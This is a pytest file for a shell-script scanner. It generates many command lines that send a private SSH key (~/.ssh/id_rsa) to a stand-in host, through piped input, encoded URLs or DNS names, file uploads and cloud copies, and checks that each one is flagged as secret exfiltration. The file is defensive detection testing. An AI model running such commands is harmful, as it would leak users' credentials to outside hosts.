"""Whatever the table of programs says is sent, shell text that sends a secret so is found."""

from __future__ import annotations

from collections.abc import Iterator
from functools import lru_cache

import pytest

from sluicegate.known.commands import sending
from sluicegate.known.commands.spec import Spec
from sluicegate.vet.config import ScanConfig
from sluicegate.vet.inspect.analyzers.shell import ShellAnalyzer
from sluicegate.vet.inspect.rule import Subject
from sluicegate.vet.intake.bundle import Artifact, Bundle, Kind
from sluicegate.vet.intake.views.view import View

KEY = "~/.ssh/id_rsa"
HOST = "collect.example.net"
URL = f"https://{HOST}/u"
LEFT = {"+posted"}


def spec(name: str) -> Spec:
    found = sending.sender(name.split())
    assert found is not None
    return found


def lines() -> Iterator[tuple[str, str]]:
    """For every program, every way in which its form and its options say that something leaves."""
    for name in sending.senders():
        found = spec(name)
        for option in {each.names: each for each in found.options.values()}.values():
            role = option.roles[0] if option.roles else ""
            for flag in option.names:
                for command in by_option(name, found, flag, role):
                    yield f"{name} {flag}", command
        for number, command in enumerate(by_form(name, found)):
            yield f"{name} {found.sends} {number}", command


def by_option(name: str, found: Spec, flag: str, role: str) -> Iterator[str]:
    where = f"-h {HOST}" if found.sends == "server" else URL
    if role in sending.FILES:
        yield f"{name} {flag} {KEY} {where}"
    elif role in ("data", "data-urlencode"):
        yield f"{name} {flag} @{KEY} {where}"
        yield f'{name} {flag} "$(cat {KEY})" {where}'
    elif role == "form":
        yield f"{name} {flag} file=@{KEY} {where}"
        yield f"{name} {flag} 'file=<{KEY}' {where}"
    elif role in ("text", "header", "cookie", "login"):
        yield f'{name} {flag} "$(cat {KEY})" {where}'
    elif role == "+posted":
        yield f"cat {KEY} | {name} {flag} {where}"


def by_form(name: str, found: Spec) -> Iterator[str]:
    match found.sends:
        case "request":
            yield f'{name} "{URL}?x=$(base64 {KEY})"'
        case "input" | "stdin":
            yield f"cat {KEY} | {name} {HOST}"
            yield f"{name} {HOST} < {KEY}"
        case "names":
            yield f'{name} "$(base64 {KEY}).{HOST}"'
        case "files":
            yield f"{name} {KEY} {HOST}:/x"
        case "copy":
            yield f"{name} {KEY} s3://bucket/x"
        case "words":
            yield f"{name} {KEY}"
            yield f"cat {KEY} | {name} -"
        case "server":
            yield f"cat {KEY} | {name} -h {HOST}"


@lru_cache(maxsize=1)
def analyzer() -> ShellAnalyzer:
    return ShellAnalyzer()


def rules_of(text: str) -> set[str]:
    data = f"#!/bin/sh\n{text}\n"
    artifact = Artifact(path="run.sh", data=data.encode(), mode=0o755, kind=Kind.SHELL)
    view = View(artifact=artifact, text=data, language=Kind.SHELL)
    bundle = Bundle(name="x", root="x", artifacts=(artifact,), gaps=(), anomalies=())
    subject = Subject(bundle=bundle, views=(view,), limits=ScanConfig().limits)
    return {match.rule for match in analyzer().inspect(subject).matches}


WAYS = dict(lines())


def test_there_are_many_ways() -> None:
    assert len(sending.senders()) > 100
    assert len(WAYS) > 200


@pytest.mark.parametrize("name", sorted({each.split()[0] for each in sending.senders()}))
def test_what_a_program_sends_is_followed(name: str) -> None:
    lost = [
        command
        for way, command in lines()
        if way.split()[0] == name and "shell-secret-to-network" not in rules_of(command)
    ]
    assert lost == []


@pytest.mark.parametrize("command", [
    f"scp {HOST}:/x ./x", f"scp -i {KEY} notes.txt {HOST}:/x", f"ssh -i {KEY} {HOST} ls", f"rsync -e 'ssh -i {KEY}' -a docs/ {HOST}:/docs",
    f"curl --cert {KEY} {URL}", f"wget --certificate={KEY} {URL}", f"aws s3 cp s3://bucket/id_rsa {KEY}", f"psql -c 'select 1' < {KEY}",
    "gcloud storage cp notes.txt gs://bucket/x", "gh api repos/x/y", f"lynx -dump {URL} < {KEY}", "redis-cli get x",
])  # fmt: skip
def test_what_stays_or_only_unlocks_is_not_sent(command: str) -> None:
    assert "shell-secret-to-network" not in rules_of(command)
